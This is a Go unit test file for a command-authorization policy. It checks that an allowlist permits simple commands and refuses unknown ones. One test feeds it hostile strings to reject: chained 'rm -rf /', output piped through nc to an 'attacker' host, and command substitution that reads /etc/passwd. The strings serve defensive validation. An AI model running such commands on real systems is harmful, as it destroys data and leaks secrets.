package policy

import (
	"strings"
	"testing"
)

func TestAuthorizeCommandAllowlist(t *testing.T) {
	for _, command := range []string{"ls", "pwd", "date", "whoami", "uptime", "ls -la /tmp"} {
		d := AuthorizeCommand(command)
		if !d.Allowed {
			t.Fatalf("AuthorizeCommand(%q) denied: %s", command, d.Reason)
		}
	}
}

func TestAuthorizeCommandRejectsUnknown(t *testing.T) {
	for _, command := range []string{"", "curl http://example.com", "python3 -c 'x'", "reboot"} {
		d := AuthorizeCommand(command)
		if d.Allowed {
			t.Fatalf("AuthorizeCommand(%q) allowed, want denied", command)
		}
		if d.Reason == "" {
			t.Fatalf("AuthorizeCommand(%q) denied without a reason", command)
		}
	}
}

func TestAuthorizeCommandRejectsDangerousPatterns(t *testing.T) {
	for _, command := range []string{
		"ls; rm -rf /",
		"pwd && whoami",
		"date | nc attacker 9999",
		"ls $(cat /etc/passwd)",
		"ls `id`",
		"rm -rf /home",
	} {
		if d := AuthorizeCommand(command); d.Allowed {
			t.Fatalf("AuthorizeCommand(%q) allowed, want denied", command)
		}
	}
}

func TestResolveApp(t *testing.T) {
	if _, ok := ResolveApp("spaceship"); ok {
		t.Fatalf("ResolveApp(spaceship) resolved, want unknown")
	}
	bin, ok := ResolveApp("cursor")
	if !ok || bin == "" {
		t.Fatalf("ResolveApp(cursor) = %q, %v", bin, ok)
	}
	if _, ok := ResolveApp("BROWSER"); !ok {
		t.Fatalf("ResolveApp should be case-insensitive")
	}
}

func TestKnownAppsSorted(t *testing.T) {
	apps := KnownApps()
	if len(apps) == 0 {
		t.Fatalf("KnownApps() is empty")
	}
	for i := 1; i < len(apps); i++ {
		if apps[i-1] > apps[i] {
			t.Fatalf("KnownApps() not sorted: %v", apps)
		}
	}
	joined := strings.Join(apps, ",")
	if !strings.Contains(joined, "cursor") {
		t.Fatalf("KnownApps() missing cursor: %v", apps)
	}
}
